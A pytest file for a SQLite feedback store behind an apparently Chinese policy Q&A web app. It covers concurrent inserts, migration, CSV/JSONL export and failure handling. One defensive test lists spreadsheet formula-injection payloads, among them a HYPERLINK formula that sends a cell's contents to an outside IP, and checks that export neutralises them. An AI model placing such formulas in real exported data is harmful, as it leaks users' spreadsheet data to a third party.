"""FeedbackStore: the 👍/👎 database must keep every row under concurrency, migrate old files,
export faithfully, and fail softly (a locked or corrupt file never stops answering)."""
from __future__ import annotations

import csv
import io
import json
import multiprocessing
import sqlite3
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from web.feedback import MAX_COMMENT_CHARS, SCHEMA_VERSION, FeedbackError, FeedbackStore

ROOT = Path(__file__).resolve().parent.parent
CITES = [{"id": "m22", "title": "措施22 · 完善产业工人住房保障", "text": "职工可按规定提取住房公积金用于支付房租。"}]


def _store(tmp_path, **kw) -> FeedbackStore:
    return FeedbackStore(tmp_path / "feedback.sqlite3", **kw)


def test_add_and_read_back(tmp_path):
    store = _store(tmp_path)
    row = store.add("住房公积金能交房租吗？", "可以。[1]", CITES, "up", found=True, route="policy", lang="zh")
    store.set_comment(row, "清楚")
    [r] = store.rows()
    assert (r["question"], r["verdict"], r["comment"], r["citations"]) == ("住房公积金能交房租吗？", "up", "清楚", CITES)
    assert r["found"] == 1 and r["route"] == "policy" and r["created_at"] and r["updated_at"]


def test_wal_mode_and_schema_version(tmp_path):
    store = _store(tmp_path)
    store.add("q", "a", [], "down")
    con = sqlite3.connect(store.path)
    assert con.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
    assert con.execute("SELECT MAX(version) FROM schema_version").fetchone()[0] == SCHEMA_VERSION == store.version()


def test_rejects_unknown_verdict(tmp_path):
    with pytest.raises(ValueError):
        _store(tmp_path).add("q", "a", [], "meh")


def test_concurrent_inserts_from_threads_lose_no_row(tmp_path):
    threads, per_thread = 8, 40
    stores = [_store(tmp_path) for _ in range(2)]  # two stores: two connections' worth of contention
    errors: list[Exception] = []

    def work(n: int) -> None:
        try:
            for i in range(per_thread):
                stores[n % 2].add(f"q{n}-{i}", "a", CITES, "up" if i % 2 else "down")
        except Exception as e:  # noqa: BLE001 - reported below
            errors.append(e)

    pool = [threading.Thread(target=work, args=(n,)) for n in range(threads)]
    for t in pool:
        t.start()
    for t in pool:
        t.join()
    assert not errors
    rows = stores[0].rows()
    assert len(rows) == threads * per_thread
    assert len({r["id"] for r in rows}) == len({r["question"] for r in rows}) == threads * per_thread


def _insert_many(path: str, tag: str, n: int) -> None:
    store = FeedbackStore(path)
    for i in range(n):
        store.add(f"{tag}-{i}", "a", [], "up")


def test_concurrent_inserts_from_processes_lose_no_row(tmp_path):
    path = str(tmp_path / "feedback.sqlite3")
    FeedbackStore(path).count()  # create and migrate once, as the app does at its first write
    ctx = multiprocessing.get_context("spawn")
    procs = [ctx.Process(target=_insert_many, args=(path, f"p{k}", 25)) for k in range(3)]
    for p in procs:
        p.start()
    for p in procs:
        p.join(60)
    assert all(p.exitcode == 0 for p in procs)
    assert FeedbackStore(path).count() == 75


def test_export_round_trips_jsonl_and_csv(tmp_path):
    store = _store(tmp_path)
    store.add("尘肺病防治谁牵头？", "牵头单位：市卫生健康局 [1]", CITES, "down", comment='说 "配合单位", 逗号,换行\n也行')
    store.add("who leads", "Lead unit: 市卫生健康局", [], "up", found=False)
    rows = store.rows()

    out = io.StringIO()
    assert store.export(out, "jsonl") == 2
    assert [json.loads(line) for line in out.getvalue().splitlines()] == rows

    out = io.StringIO()
    store.export(out, "csv")
    back = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert len(back) == 2
    for got, want in zip(back, rows):
        assert json.loads(got["citations"]) == want["citations"]
        assert {k: v for k, v in got.items() if k != "citations"} == \
               {k: "" if v is None else str(v) for k, v in want.items() if k != "citations"}


def test_export_command_line(tmp_path):
    store = _store(tmp_path)
    store.add("q", "a", CITES, "up", comment="好")
    run = subprocess.run([sys.executable, "-m", "web.feedback", "export", "--format", "jsonl", "--db", str(store.path)],
                         cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert run.returncode == 0, run.stderr
    assert json.loads(run.stdout.splitlines()[0])["comment"] == "好"
    missing = subprocess.run([sys.executable, "-m", "web.feedback", "export", "--db", str(tmp_path / "none.db")],
                             cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert missing.returncode == 1 and "no feedback database" in missing.stderr


def test_migrates_a_version_1_file(tmp_path):
    old = _store(tmp_path, max_versions=1)  # a file as the first release left it
    assert old.version() == 1
    con = sqlite3.connect(old.path)
    con.execute("INSERT INTO feedback (created_at, question, answer, verdict) VALUES ('2026-01-01', 'old question', 'old answer', 'up')")
    con.commit()
    con.close()
    new = _store(tmp_path)
    assert new.version() == SCHEMA_VERSION
    new.add("new question", "a", [], "down", route="policy")
    rows = new.rows()
    assert [r["question"] for r in rows] == ["old question", "new question"]
    assert rows[0]["route"] == "" and rows[1]["route"] == "policy"


def test_locked_database_fails_fast_and_softly(tmp_path):
    store = _store(tmp_path, timeout=0.3)
    store.add("q", "a", [], "up")
    blocker = sqlite3.connect(store.path, isolation_level=None)
    blocker.execute("BEGIN EXCLUSIVE")
    try:
        started = time.monotonic()
        with pytest.raises(FeedbackError):
            store.add("q2", "a", [], "up")
        assert time.monotonic() - started < 5

        from web.services import Feedback

        feedback = Feedback(store, key=b"k" * 32)
        assert feedback.record(feedback.issue({"q": "q3", "answer": "a", "citations": []}), "down") is None
        assert feedback.comment(1, "text") is False
    finally:
        blocker.execute("ROLLBACK")
        blocker.close()
    assert store.count() == 1


def test_corrupt_database_raises_feedback_error(tmp_path):
    path = tmp_path / "feedback.sqlite3"
    path.write_bytes(b"this is not a database" * 200)
    store = FeedbackStore(path)
    with pytest.raises(FeedbackError):
        store.add("q", "a", [], "up")
    with pytest.raises(FeedbackError):
        store.rows()


def test_app_answers_with_a_corrupt_feedback_database(tmp_path, index_dir, assistant):
    """A broken feedback file must not stop the web app from starting or answering."""
    import os

    from gradio_client import Client
    from webapp import running_app

    db = tmp_path / "feedback.sqlite3"
    db.write_bytes(b"this is not a database" * 200)
    env = {**os.environ, "ASSISTANT_INDEX_DIR": str(index_dir), "ASSISTANT_FEEDBACK_DB": str(db)}
    with running_app(env) as (url, _):
        result = Client(url, verbose=False).predict("尘肺病防治攻坚行动由哪个部门牵头？", api_name="/ask")
        assert "市卫生健康局" in result["answer"]


def test_csv_export_neutralises_formulas(tmp_path):
    """Spreadsheet formula injection: a cell starting with = + - @, tab or CR is exported with a
    leading apostrophe, so the spreadsheet shows it as text; JSON lines keep it as stored."""
    store = _store(tmp_path)
    evil = ['=HYPERLINK("http://203.0.113.9/?"&A1,"点我")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
    for i, text in enumerate(evil):
        store.add(text, "答", [], "down", comment=text, turn_id=f"t{i}")
    store.add("普通问题 = 1?", "答", [], "up", comment="fine - ok", turn_id="plain")
    out = io.StringIO()
    store.export(out, "csv")
    back = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    for row, text in zip(back, evil):
        assert row["question"] == row["comment"] == "'" + text
    assert (back[-1]["question"], back[-1]["comment"]) == ("普通问题 = 1?", "fine - ok")
    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in back for v in r.values())
    out = io.StringIO()
    store.export(out, "jsonl")
    assert [json.loads(line)["question"] for line in out.getvalue().splitlines()][:len(evil)] == evil


def test_one_row_per_turn_and_comment_limit(tmp_path):
    store = _store(tmp_path)
    first = store.add("q", "a", [], "up", turn_id="t1.n.m")
    assert store.add("q", "a", [], "down", turn_id="t1.n.m") == first  # the verdict changes
    [row] = store.rows()
    assert (row["verdict"], row["turn_id"]) == ("down", "t1.n.m")
    store.set_comment(first, "好" * MAX_COMMENT_CHARS)
    with pytest.raises(ValueError, match="comment too long"):
        store.set_comment(first, "好" * (MAX_COMMENT_CHARS + 1))
    assert store.rows()[0]["comment"] == "好" * MAX_COMMENT_CHARS


def test_turn_ids_prove_what_the_server_answered(tmp_path):
    from web.services import Feedback
    from web.turns import NotIssued

    store = _store(tmp_path)
    feedback = Feedback(store)
    turn = feedback.issue({"q": "住房公积金能交房租吗？", "answer": "可以。[1]", "citations": CITES, "found": True,
                           "route": "policy", "lang": "zh", "time": "2026-11-28T10:00:00"})
    assert Feedback(FeedbackStore(store.path)).ids.check(turn) == turn["turn_id"]  # the key is kept in the file
    assert Feedback(_store(tmp_path / "other")).ids.check is not None
    with pytest.raises(NotIssued):
        Feedback(_store(tmp_path / "other")).ids.check(turn)  # another database, another key
    for change in ({"answer": "可以，每月补贴 5000 元。[1]"}, {"q": "别的问题"}, {"found": False},
                   {"citations": [{**CITES[0], "text": "改过的原文"}]}, {"turn_id": turn["turn_id"] + "x"},
                   {"turn_id": None}, {"turn_id": "t1.a"}):
        with pytest.raises(NotIssued):
            feedback.record({**turn, **change}, "up")
    assert feedback.record({**turn, "time": "changed", "feedback": "Like"}, "up")  # display fields are free
    assert store.count() == 1
